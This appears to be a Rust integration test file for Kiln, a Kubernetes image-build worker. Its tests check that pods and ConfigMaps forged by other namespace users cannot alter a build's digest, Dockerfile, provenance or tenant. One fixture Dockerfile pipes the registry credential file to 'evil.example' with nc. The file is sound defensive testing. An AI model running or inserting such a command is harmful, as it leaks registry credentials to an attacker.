//! Only Kiln's own objects speak for a build (issue 18, items 1 and 2):
//! anyone who may create pods or ConfigMaps in a watched namespace can copy
//! a build's names, labels and annotations, and none of it may change the
//! build's Dockerfile, digest or outcome, or take its id.
//!
//! Tenants: `guest` (alice: the tests' AMQP user) builds in the tests'
//! namespace, `bob` in `kiln-bob`, `carol` in `kiln-carol`. The forger
//! writes straight to the fake API server, as a namespace's pod creators can.
#![allow(clippy::unwrap_used)]

use std::collections::BTreeMap;
use std::time::Duration;

use k8s_openapi::api::core::v1::{ConfigMap, Container, Pod, PodSpec};
use k8s_openapi::apimachinery::pkg::apis::meta::v1::ObjectMeta;
use kiln_protocol::{BuildEvent, Phase, Reason};
use kiln_tests::fakekube::{Fate, Resource, Timing};
use kiln_tests::harness::{Env, NAMESPACE, is_build_terminal, one_image, unique};
use kube::api::{Api, PostParams};
use serde_json::json;

const BOB: &str = "kiln-bob";
const CAROL: &str = "kiln-carol";

fn policy_text() -> String {
    format!(
        r#"
[tenants.guest]
namespace = "{NAMESPACE}"
allowedDestinations = ["registry.example.com/shop"]

[tenants.bob]
namespace = "{BOB}"
allowedDestinations = ["registry.example.com/bob"]

[tenants.carol]
namespace = "{CAROL}"
allowedDestinations = ["registry.example.com/carol"]
"#
    )
}

fn forged_digest() -> String {
    format!("sha256:{}", "e".repeat(64))
}

/// A pod that looks like attempt 1 of image `api` of build `id` to anyone
/// reading labels and annotations: Kiln's managed-by, image and attempt
/// labels, the build-id and tenant annotations. Its container is the
/// forger's.
fn forged_pod(id: &str, namespace: &str, name: &str, tenant: &str) -> Pod {
    Pod {
        metadata: ObjectMeta {
            name: Some(name.to_owned()),
            namespace: Some(namespace.to_owned()),
            labels: Some(BTreeMap::from([
                ("app.kubernetes.io/managed-by".into(), "kiln".into()),
                ("kiln.dev/build".into(), kiln_protocol::label_value(id)),
                ("kiln.dev/image".into(), "api".into()),
                ("kiln.dev/attempt".into(), "1".into()),
            ])),
            annotations: Some(BTreeMap::from([
                ("kiln.dev/build-id".into(), id.to_owned()),
                ("kiln.dev/tenant".into(), tenant.to_owned()),
            ])),
            ..ObjectMeta::default()
        },
        spec: Some(PodSpec {
            restart_policy: Some("Never".into()),
            containers: vec![Container {
                name: "kaniko".into(),
                image: Some("forger/executor:latest".into()),
                command: Some(vec!["sh".into(), "-c".into(), "echo forged".into()]),
                ..Container::default()
            }],
            ..PodSpec::default()
        }),
        ..Pod::default()
    }
}

async fn create_pod(env: &Env, pod: &Pod) {
    let ns = pod.metadata.namespace.clone().unwrap();
    let api: Api<Pod> = Api::namespaced(env.kube.client(), &ns);
    api.create(&PostParams::default(), pod).await.unwrap();
}

/// Publishes `request` as alice (tenant `guest`).
async fn publish_as_alice(env: &Env, request: &serde_json::Value) {
    env.publish_raw(&serde_json::to_vec(request).unwrap(), Some("guest"))
        .await;
}

fn outcome(events: &[BuildEvent]) -> &BuildEvent {
    events
        .iter()
        .find(|e| is_build_terminal(e))
        .unwrap_or_else(|| panic!("no terminal build event: {events:#?}"))
}

/// The build ended `ConfigError` on the ConfigMap `cm_name` someone else
/// created under Kiln's name.
fn assert_refused_for_configmap(events: &[BuildEvent], cm_name: &str) {
    let end = outcome(events);
    assert_eq!(end.data.phase, Phase::Failed, "{events:#?}");
    assert_eq!(end.data.reason, Some(Reason::ConfigError), "{events:#?}");
    let message = end.data.message.clone().unwrap_or_default();
    assert!(
        message.contains(&format!("a ConfigMap named {cm_name} already exists")),
        "{message}"
    );
}

/// Creates `cm` in the tests' namespace, as a namespace's ConfigMap
/// creators can.
async fn create_configmap(env: &Env, cm: &ConfigMap) {
    let cms: Api<ConfigMap> = Api::namespaced(env.kube.client(), NAMESPACE);
    cms.create(&PostParams::default(), cm).await.unwrap();
}

/// Item 1: while alice's build runs, a pod in bob's namespace with her
/// build id, Kiln's labels and a terminated exit-0 status whose message is
/// a digest of bob's choosing changes nothing: the build ends with its own
/// pod's digest, and no event carries bob's.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pod_another_tenant_creates_with_this_builds_annotations_changes_nothing() {
    let mut env = Env::new().await;
    let path = env.write_policy(&policy_text());
    let forged = forged_digest();
    let kubelet_digest = forged.clone();
    // Bob's pod exits 0 at once with his digest; alice's runs for a while.
    env.kube.kubelet().set_script(move |p| {
        if p.metadata.namespace.as_deref() == Some(BOB) {
            Fate::Succeed {
                digest: Some(kubelet_digest.clone()),
                log: String::new(),
            }
        } else {
            Fate::succeed()
        }
    });
    env.kube.kubelet().set_timing(Timing {
        pending: Duration::from_millis(50),
        running: Duration::from_secs(5),
        terminating: Duration::ZERO,
    });
    env.start_worker_with(|c| c.build.policy = Some(path.clone()));
    let id = unique("victim");
    publish_as_alice(&env, &one_image(&id)).await;
    env.wait_running(&id, 1, Duration::from_secs(15)).await;
    // From now on pods finish at once: bob's ends well before alice's.
    env.kube.kubelet().set_timing(Timing::instant());
    let name = kiln_protocol::pod_name(&id, "api", 1);
    create_pod(&env, &forged_pod(&id, BOB, &name, "guest")).await;
    let events = env.events_of(&id, Duration::from_secs(20)).await;
    let end = outcome(&events);
    assert_eq!(end.data.phase, Phase::Succeeded, "{events:#?}");
    let text = serde_json::to_string(&events).unwrap();
    assert!(
        !text.contains(&forged),
        "no event carries bob's digest: {text}"
    );
    let expected = kiln_tests::fakekube::digest_of(&name);
    assert!(
        text.contains(&expected),
        "the build ends with its own pod's digest {expected}: {text}"
    );
    assert!(
        env.kube.pod(BOB, &name).is_some(),
        "bob's pod is not Kiln's to delete"
    );
}

/// Item 2 (pods): a pod created in advance under the name Kiln gives the
/// build's pod, with its labels and annotations, is not adopted: the
/// attempt fails `ConfigError`, and the pod is left alone.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pre_created_pod_under_kilns_name_is_not_adopted() {
    let mut env = Env::new().await;
    let path = env.write_policy(&policy_text());
    env.kube.kubelet().set_script(|p| {
        if p.spec.as_ref().is_some_and(|s| {
            s.containers
                .iter()
                .any(|c| c.image.as_deref() == Some("forger/executor:latest"))
        }) {
            Fate::RunForever
        } else {
            Fate::succeed()
        }
    });
    let id = unique("squatted");
    let name = kiln_protocol::pod_name(&id, "api", 1);
    create_pod(&env, &forged_pod(&id, NAMESPACE, &name, "guest")).await;
    env.start_worker_with(|c| c.build.policy = Some(path.clone()));
    publish_as_alice(&env, &one_image(&id)).await;
    let events = env.events_of(&id, Duration::from_secs(20)).await;
    let end = outcome(&events);
    assert_eq!(end.data.phase, Phase::Failed, "{events:#?}");
    assert_eq!(end.data.reason, Some(Reason::ConfigError), "{events:#?}");
    let message = end.data.message.clone().unwrap_or_default();
    assert!(
        message.contains(&format!(
            "a pod named {name} already exists in namespace {NAMESPACE}"
        )),
        "{message}"
    );
    let pod = env
        .kube
        .pod(NAMESPACE, &name)
        .expect("the pod is left alone");
    assert_eq!(
        pod.spec.unwrap().containers[0].image.as_deref(),
        Some("forger/executor:latest")
    );
}

/// Item 2 (ConfigMaps): a ConfigMap created in advance under the
/// predictable name of a build's inline Dockerfile, with a `RUN` step of
/// the forger's, is never mounted. Chosen behaviour: the attempt fails
/// `ConfigError` before any pod exists (the ConfigMap is checked before the
/// pod is created), and the forger's ConfigMap is left alone.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pre_created_configmap_is_never_mounted() {
    let mut env = Env::new().await;
    let path = env.write_policy(&policy_text());
    env.kube.kubelet().set_script(|_| Fate::succeed());
    let id = unique("dockerfile");
    let cm_name = kiln_protocol::configmap_name(&id, "api", 1);
    let evil = "FROM alpine:3.20\nRUN cat /kaniko/.docker/config.json | nc evil.example 80\n";
    let cm = ConfigMap {
        metadata: ObjectMeta {
            name: Some(cm_name.clone()),
            namespace: Some(NAMESPACE.to_owned()),
            labels: Some(BTreeMap::from([(
                "app.kubernetes.io/managed-by".into(),
                "kiln".into(),
            )])),
            ..ObjectMeta::default()
        },
        data: Some(BTreeMap::from([("Dockerfile".into(), evil.into())])),
        ..ConfigMap::default()
    };
    create_configmap(&env, &cm).await;
    env.start_worker_with(|c| c.build.policy = Some(path.clone()));
    let mut request = one_image(&id);
    request["images"][0]["dockerfileInline"] = json!("FROM alpine:3.20\nCOPY . /app\n");
    publish_as_alice(&env, &request).await;
    let events = env.events_of(&id, Duration::from_secs(20)).await;
    assert_refused_for_configmap(&events, &cm_name);
    assert_eq!(
        env.created(Resource::Pods),
        0,
        "no pod ever mounts the forger's ConfigMap: {:?}",
        env.pod_names()
    );
    let left = env.kube.configmap(NAMESPACE, &cm_name).expect("left alone");
    assert_eq!(left.data.unwrap()["Dockerfile"], evil);
}

/// The same for the publish step's provenance ConfigMap: a signed-looking
/// envelope pre-created under its name is never attached to alice's
/// index. The platforms build; the publish attempt fails `ConfigError`
/// before its pod exists, and the forger's ConfigMap is left alone.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pre_created_provenance_configmap_is_never_attached() {
    let mut env = Env::new().await;
    let path = env.write_policy(&policy_text());
    env.kube.kubelet().set_script(|_| Fate::succeed());
    let id = unique("attach");
    let cm_name = kiln_protocol::configmap_name(&id, &kiln_protocol::publish_unit("api"), 1);
    let forged = r#"{"payloadType":"application/vnd.in-toto+json","payload":"e30=","signatures":[{"keyid":"sha256:00","sig":"AA=="}]}"#;
    let cm = ConfigMap {
        metadata: ObjectMeta {
            name: Some(cm_name.clone()),
            namespace: Some(NAMESPACE.to_owned()),
            ..ObjectMeta::default()
        },
        data: Some(BTreeMap::from([(
            "provenance.dsse.json".into(),
            forged.into(),
        )])),
        ..ConfigMap::default()
    };
    create_configmap(&env, &cm).await;
    env.start_worker_with(|c| c.build.policy = Some(path.clone()));
    let mut request = one_image(&id);
    request["images"][0]["platforms"] = json!(["linux/amd64", "linux/arm64"]);
    publish_as_alice(&env, &request).await;
    let events = env.events_of(&id, Duration::from_secs(30)).await;
    assert_refused_for_configmap(&events, &cm_name);
    assert_eq!(
        env.created(Resource::Pods),
        2,
        "the two platform pods, no publish pod: {:?}",
        env.pod_names()
    );
    let left = env.kube.configmap(NAMESPACE, &cm_name).expect("left alone");
    assert_eq!(left.data.unwrap()["provenance.dsse.json"], forged);
}

/// Item 1 (squatting): a pod in bob's namespace naming alice's build id
/// and a forged `kiln.dev/tenant` (carol, whose builds run elsewhere) does
/// not make the id carol's: alice's request under it is built, not
/// rejected as another tenant's.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pod_with_a_forged_tenant_label_does_not_squat_an_id() {
    let mut env = Env::new().await;
    let path = env.write_policy(&policy_text());
    env.kube.kubelet().set_script(|p| {
        if p.metadata.namespace.as_deref() == Some(BOB) {
            Fate::RunForever
        } else {
            Fate::succeed()
        }
    });
    env.start_worker_with(|c| c.build.policy = Some(path.clone()));
    let id = unique("squat");
    create_pod(&env, &forged_pod(&id, BOB, &unique("squatter"), "carol")).await;
    // The worker's watch sees the pod before the request arrives.
    assert!(
        env.eventually(Duration::from_secs(5), |e| {
            e.kube.pods(BOB).iter().any(|p| {
                p.status
                    .as_ref()
                    .and_then(|s| s.phase.as_deref())
                    .is_some_and(|ph| ph == "Running")
            })
        })
        .await
    );
    tokio::time::sleep(Duration::from_millis(500)).await;
    publish_as_alice(&env, &one_image(&id)).await;
    let events = env.events_of(&id, Duration::from_secs(20)).await;
    let end = outcome(&events);
    assert_eq!(end.data.phase, Phase::Succeeded, "{events:#?}");
}
